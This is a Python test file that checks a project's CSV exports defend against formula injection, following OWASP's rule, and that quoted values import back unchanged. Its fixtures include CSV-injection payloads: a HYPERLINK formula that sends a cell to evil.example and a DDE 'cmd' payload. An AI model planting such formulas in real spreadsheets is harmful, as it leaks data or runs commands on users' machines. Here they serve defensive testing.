"""The one CSV writer: OWASP's CSV-injection rule, and values that come back exactly."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from api.attendance.reports import month_csv
from ikn_core.io import (
    BuildingRecord,
    FloorRecord,
    PersonRecord,
    SiteRecord,
    Spaces,
    ZoneRecord,
    parse_people,
    parse_spaces,
    people_csv,
    spaces_csv,
)
from ikn_core.spreadsheet import csv_text, safe_cell, unquote_cell

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote() -> None:
    rows = _cells(csv_text(["name", "late"], [(f, -3) for f in FORMULAS]))
    assert rows[0] == ["name", "late"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert {r[1] for r in rows[1:]} == {"-3"}  # a number stays a number


def test_plain_text_numbers_and_empty_cells_are_left_alone() -> None:
    assert safe_cell("Ani Rahma") == "Ani Rahma"
    assert safe_cell("Dinas = Luar") == "Dinas = Luar"  # not at the start
    assert safe_cell(-1.5) == -1.5
    assert _cells(csv_text(["a", "b"], [(None, "")])) == [["a", "b"], ["", ""]]


@given(st.text(st.sampled_from("=+-@'\t\rab1 ")) | st.text())
def test_unquote_gives_back_every_value(value: str) -> None:
    quoted = safe_cell(value)
    assert isinstance(quoted, str)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unquote_cell(quoted) == value


def test_ikn_export_people_quotes_formulas_and_imports_back_the_same() -> None:
    # (the import trims names, so the tab- and CR-led ones are checked above only)
    people = tuple(
        PersonRecord(f"p{i}", name, "=agency", "@unit", "employee", None)
        for i, name in enumerate([*FORMULAS[:4], "'already quoted"])
    )
    text = people_csv(people)
    for row in _cells(text)[1:]:
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row), row
    assert parse_people(text, "csv", {}) == people


def test_the_attendance_month_csv_quotes_a_person_id_that_looks_like_a_formula() -> None:
    # person ids may start with "@" or "-" ([A-Za-z0-9_.@-]); the totals row names them
    rows = _cells(month_csv({"@SUM(A1)": [], "-1+2": []}))
    assert {r[0] for r in rows[2:]} == {"'@SUM(A1)", "'-1+2"}


def test_ikn_export_spaces_quotes_formulas_and_imports_back_the_same() -> None:
    spaces = Spaces(
        sites=(SiteRecord("s1", '=HYPERLINK("https://evil.example","Kampus")'),),
        buildings=(BuildingRecord("b1", "s1", "+Gedung A", agency="@kemenkeu"),),
        floors=(FloorRecord("b1-f1", "b1", "-1 Basement", -1),),
        zones=(ZoneRecord("b1-f1-a", "b1-f1", "'quoted", agency="=cmd"),),
    )
    text = spaces_csv(spaces)
    for row in _cells(text)[1:]:
        assert all(not c.startswith(("=", "+", "@")) for c in row), row
    assert _cells(text)[3][8] == "-1"  # the floor's level is a number: untouched
    assert parse_spaces(text, "csv", {}) == spaces
